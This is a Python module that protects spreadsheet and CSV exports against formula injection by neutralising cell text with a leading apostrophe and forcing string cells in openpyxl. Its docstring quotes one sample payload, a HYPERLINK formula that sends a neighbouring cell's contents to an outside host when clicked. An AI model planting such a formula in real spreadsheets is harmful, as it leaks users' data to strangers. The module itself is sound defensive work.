"""Spreadsheet exports: every cell written from people's text stays text.

A name, a department, a team or a choice is typed by a member, and a spreadsheet program turns
a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some programs
strip before looking) into a live formula: `=HYPERLINK("http://x.cn/?"&C3,"吴老师")` sends the
next cell to a stranger when clicked. So every export writes its cells through this module:

- `safe_cell(value)` neutralises a text the way OWASP recommends for CSV injection: tabs and
  carriage returns inside it become spaces, and a text whose first visible character is one of
  `= + - @` (or that started with a tab or carriage return) gets a leading apostrophe `'`. The
  apostrophe stays visible in the cell: the reader sees that the text was neutralised, and it
  still reads as text when the sheet is copied, saved as CSV or edited. Control characters
  that a workbook cannot hold are dropped. Numbers, dates and empty cells pass through
  unchanged; other texts are not touched.
- `append_row(sheet, values)` appends a row of neutralised values to an openpyxl sheet and
  marks every text cell as a string cell (data type "s"), so even a value that slipped past the
  check is never stored as a formula.
- `safe_row(values)` is the same for a csv.writer row.
- Big books (the 台账 workbook) are written by `models.xlsx_stream`, which passes every value
  through `safe_cell` and writes every text as an inline string cell, never a formula.
- `write_row(sheet, values)` is `append_row` for big books: it also works on a write-only
  (streaming) sheet, where a cell cannot be changed after it is appended, and carries number
  formats (money, dates) and bold totals through `Styled` values.

New exports use these too; nothing else in the code writes a cell.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import date, datetime, time
from typing import TYPE_CHECKING, TypeAlias

if TYPE_CHECKING:  # openpyxl is imported by the exports that write a file, not at start
    from openpyxl.cell.cell import Cell
    from openpyxl.styles import Font
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

CellValue: TypeAlias = str | int | float | bool | date | datetime | time | None

FORMULA_STARTS = ("=", "+", "-", "@")
NEUTRALISER = "'"


ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")
"""openpyxl's own (openpyxl.cell.cell): control characters a cell refuses to hold."""

NOT_XML_RE = re.compile("[\ud800-\udfff\ufffe\uffff]")
"""Characters no XML file may hold (noncharacters, lone surrogates): a reader refuses the file."""


def safe_cell(value: CellValue) -> CellValue:
    """The value as a spreadsheet may show it: a text can never start a formula."""
    if not isinstance(value, str) or not value:
        return value
    started_with_control = value[0] in "\t\r"
    text = ILLEGAL_CHARACTERS_RE.sub("", value.replace("\t", " ").replace("\r", " "))
    text = NOT_XML_RE.sub("", text)
    if started_with_control or text.lstrip().startswith(FORMULA_STARTS):
        return NEUTRALISER + text
    return text


def safe_row(values: Iterable[CellValue]) -> list[CellValue]:
    """A row of neutralised values (for csv.writer)."""
    return [safe_cell(value) for value in values]


def append_row(sheet: Worksheet, values: Iterable[CellValue]) -> None:
    """Append a row of neutralised values to an xlsx sheet, every text as a string cell."""
    row = safe_row(values)
    sheet.append(row)
    for cell, value in zip(sheet[sheet.max_row], row, strict=False):
        if isinstance(value, str):
            cell.value = value
            cell.data_type = "s"


@dataclass(frozen=True)
class Styled:
    """A value with its look for `write_row`: a number format (money, dates) and boldness."""

    value: CellValue
    number_format: str | None = None
    bold: bool = False


@functools.cache
def _bold() -> Font:
    """The one bold font of every export (made once, when the first export is written)."""
    from openpyxl.styles import Font

    return Font(bold=True)


def write_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[CellValue | Styled]) -> None:
    """Append a row to an xlsx sheet, a write-only (streaming) one too: every value
    neutralised, every text a string cell, number formats and boldness kept.

    In a write-only sheet a cell cannot be changed once appended, so a text that would still
    read as a formula (none can after `safe_cell`) and every styled value are appended as
    ready-made cells; other values go in as they are, which openpyxl stores as they are.
    """
    from openpyxl.cell.cell import WriteOnlyCell

    row: list[CellValue | Cell] = []
    for item in values:
        styled = item if isinstance(item, Styled) else Styled(item)
        value = safe_cell(styled.value)
        plain = styled.number_format is None and not styled.bold
        if plain and not (isinstance(value, str) and value.startswith("=")):
            row.append(value)
            continue
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        if styled.number_format is not None:
            cell.number_format = styled.number_format
        if styled.bold:
            cell.font = _bold()
        row.append(cell)
    sheet.append(row)
